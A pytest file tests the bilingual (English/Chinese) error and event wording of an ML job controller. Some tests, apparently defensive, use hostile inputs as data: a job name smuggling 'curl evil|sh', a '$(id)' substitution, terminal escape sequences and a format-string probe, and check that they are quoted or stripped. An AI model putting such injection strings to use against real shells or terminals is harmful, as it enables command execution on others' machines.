"""Every code a person can meet has a sentence, in both languages, with the fields that are really there."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from pathlib import Path
from string import Formatter

import pytest

from lt_agent.protocol.errors import LtError
from lt_agent.protocol.retrying import CURABLE, INCURABLE
from lt_agent.protocol.states import PULL_STATES, STATES
from lt_controller.wording import event, exit_code, language, say, state, why
from lt_controller.wording.chinese import CATALOGUE as chinese
from lt_controller.wording.english import CATALOGUE as english
from lt_controller.wording.exits import _EXITS
from lt_controller.wording.say import duration, fill, size

ROOT = Path(__file__).parents[3]
PACKAGES = ("agent/lt_agent", "recipes/lt_recipes", "inventory/lt_inventory", "controller/lt_controller", "tui/lt_tui")
RAISED = {"LtError", "NoEnvironmentError"}


def raised_codes() -> Iterator[tuple[str, str]]:
    """(code, where) of every error that the source constructs with a literal code."""
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if not isinstance(node, ast.Call) or not node.args:
                    continue
                name = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
                if name not in RAISED:
                    continue
                first = node.args[0]
                for literal in (first.body, first.orelse) if isinstance(first, ast.IfExp) else (first,):
                    if isinstance(literal, ast.Constant) and isinstance(literal.value, str):
                        yield literal.value, f"{path.relative_to(ROOT)}:{node.lineno}"


def test_a_command_to_type_is_harmless_whatever_a_host_calls_its_jobs() -> None:
    told = say(LtError("job_alive", job="x; curl evil|sh #", state="running"), "en")
    assert told.next == "lt stop 'x; curl evil|sh #' ends it first"
    assert say(LtError("job_alive", job="$(id)"), "zh").next.count("lt stop '$(id)'") == 1
    assert say(LtError("job_alive", job="sft-1"), "en").next == "lt stop sft-1 ends it first"
    assert "echo 'a'\"'\"'b' >>" in say(LtError("folder_too_big", first="a'b"), "en").next


@pytest.mark.parametrize("catalogue", [english, chinese], ids=["en", "zh"])
def test_every_error_of_the_source_has_a_sentence(catalogue: object) -> None:
    errors: dict[str, tuple[str, str]] = catalogue.ERRORS  # type: ignore[attr-defined]
    missing = {code: where for code, where in raised_codes() if code not in errors}
    assert not missing


def fields(text: str) -> set[str]:
    return {name for _, name, _, _ in Formatter().parse(re.sub(r"[\[\]]", "", text)) if name}


def test_both_languages_speak_of_the_same_fields() -> None:
    assert set(english.ERRORS) == set(chinese.ERRORS)
    for code, (message, following) in english.ERRORS.items():
        other = chinese.ERRORS[code]
        assert fields(message) == fields(other[0]) and fields(following) == fields(other[1]), code
    assert set(english.PHRASES) == set(chinese.PHRASES)
    for key, text in english.PHRASES.items():
        assert fields(text) == fields(chinese.PHRASES[key]), key
    assert set(english.REASONS) == set(chinese.REASONS)
    assert set(english.EVENTS) == set(chinese.EVENTS)


def test_every_state_has_a_chinese_word() -> None:
    for word in (*STATES, *PULL_STATES, "unknown", "connecting", "reachable", "unreachable", "refused"):
        assert state(word, "zh") != word
        assert state(word, "en")


def test_every_exit_code_is_of_a_known_error() -> None:
    assert set(_EXITS) <= set(english.ERRORS)
    assert exit_code("no_such_job") == 4 and exit_code("host_unreachable") == 3 and exit_code("never_heard") == 1


def test_an_unknown_code_is_shown_readably_and_harmless() -> None:
    said = say(LtError("flux_lost", level=3, name="\x1b[31mx"), "en")
    assert said.message == "flux lost (level: 3, name: x)"


def test_what_a_host_says_is_made_safe() -> None:
    said = say(LtError("host_unreachable", host="a", why="no\x1b]52;c;eA==\x07 way\n"), "en")
    assert said.message == "Host a can't be reached: no way."


def test_a_code_for_why_is_put_in_words() -> None:
    error = LtError("host_unreachable", host="a", why="dns")
    assert say(error, "en").message == "Host a can't be reached: there is no address for this name."
    assert "没有地址" in say(error, "zh").message
    assert set(english.WHYS) == set(chinese.WHYS) and set(english.ADDING) == set(chinese.ADDING)
    for code, text in english.ADDING.items():
        assert fields(text) == fields(chinese.ADDING[code])


def test_a_command_to_type_has_a_placeholder_for_what_is_not_known() -> None:
    known = LtError("no_such_checkpoint", job="a", name="x")
    assert "lt show a" in say(known, "en").next
    assert "lt show JOB" in say(LtError("no_such_checkpoint", name="x"), "en").next


def test_a_value_that_ends_its_sentence_gets_no_second_stop() -> None:
    assert fill("It failed: {why}.", {"why": "no room.\n"}) == "It failed: no room."
    assert fill("It failed: {why}.", {"why": "and so on ..."}) == "It failed: and so on ...."


def test_one_file_is_one_file() -> None:
    assert fill("{n:files}", {"n": 1}) == "1 file" and fill("{n:files}", {"n": 2}) == "2 files"


def test_a_part_in_brackets_goes_with_its_field() -> None:
    assert fill("a[ {x}][ {y}].", {"x": 1}) == "a 1."
    assert fill("{missing}", {}) == "?"
    assert fill("[{list}]", {"list": []}) == "" and fill("{list}", {"list": ["a", "b"]}) == "a, b"


def test_every_reason_that_the_retries_know_has_words() -> None:
    for reason in CURABLE | INCURABLE:
        for catalogue in (english, chinese):
            assert reason in catalogue.REASONS, reason


def test_brackets_without_a_field_are_part_of_the_command() -> None:
    said = say(LtError("demo_needs_training", missing=["torch"], python="python3"), "en")
    assert said.next.startswith("pip install 'labtrain[train]' (")
    assert "secrets: [NAME]" in say(LtError("no_secrets", job="j"), "en").next


def test_braces_and_brackets_in_a_value_stay_text() -> None:
    assert fill("{x}", {"x": "{y} [z] {0.__class__}"}) == "{y} [z] {0.__class__}"


def test_every_sentence_can_be_filled_with_nothing() -> None:
    for catalogue in (english, chinese):
        for text in [t for pair in catalogue.ERRORS.values() for t in pair] + list(catalogue.PHRASES.values()):
            assert isinstance(fill(text, {}), str)


def test_an_ending_tells_its_cause() -> None:
    assert why("nan", None, None, "en") == "the loss became NaN"
    assert why("exit_code", None, 3, "en") == "exit code 3"
    assert why("new_reason", "words", None, "en") == "new reason: words"
    stored = '{"code": "not_enough_gpus", "params": {"host": "box", "there": 0, "asked": 1}}'
    assert why("not_enough_gpus", stored, None, "en").startswith("box has 0 GPUs")
    assert why(None) == ""


def test_events_are_told_in_words() -> None:
    assert event("state", {"state": "failed", "reason": "oom"}, "en") == "failed (out of memory)"
    assert event("checkpoint", {"name": "c-10", "step": 10, "size": 1536}, "en") == "checkpoint c-10 (step 10), 1.5 KiB"
    assert event("error", {"code": "uv_missing", "params": {}}, "en") == "The host has no uv, and none could be sent."
    assert event("brand_new", {"a": 1}, "en") == "brand new (a: 1)"


def test_the_language_is_asked_for_or_the_locale() -> None:
    assert language({"LT_LANG": "zh", "LANG": "en_US.UTF-8"}) == "zh"
    assert language({"LANG": "zh_CN.UTF-8"}) == "zh"
    assert language({"LC_ALL": "C", "LANG": "zh_CN.UTF-8"}) == "en"
    assert language({"LT_LANG": "fr"}) == "en"


def test_sizes_and_lengths_read_well() -> None:
    assert [size(n) for n in (0, 1023, 1536, 150 << 20, 5 << 30)] == ["0 B", "1023 B", "1.5 KiB", "150 MiB", "5.0 GiB"]
    assert [duration(n) for n in (5, 65, 3700, 90000)] == ["5s", "1m 05s", "1h 01m", "1d 1h"]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf"), 10**400, 1e300, "9", None, [3]])
def test_what_is_no_size_or_length_is_a_question_mark(value: object) -> None:
    assert (size(value), duration(value), fill("{a:time} {a:size}", {"a": value})) == ("?", "?", "? ?")


def test_a_number_that_no_float_holds_breaks_no_sentence() -> None:
    assert fill("{a:.2f}", {"a": 10**400}) == "?"
    assert event("hang", {"phase": "step", "seconds": 10**400}, "en").startswith("nothing happened for ? (step)")
    assert size(5 << 50) == "5120 TiB", "a file system of a cluster"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_one_line_names_few_of_two_hundred_hosts(lang: str) -> None:
    from lt_controller.wording import placed

    ranks = [{"host": "here", "free": 1, "slots": 1}]
    ranks += [{"host": f"h{n}", "passed_over": "host_is_unreachable", "params": {}} for n in range(199)]
    told = placed(ranks, lang)
    assert "h5" in told and "h6" not in told and "193" in told and len(told) < 300
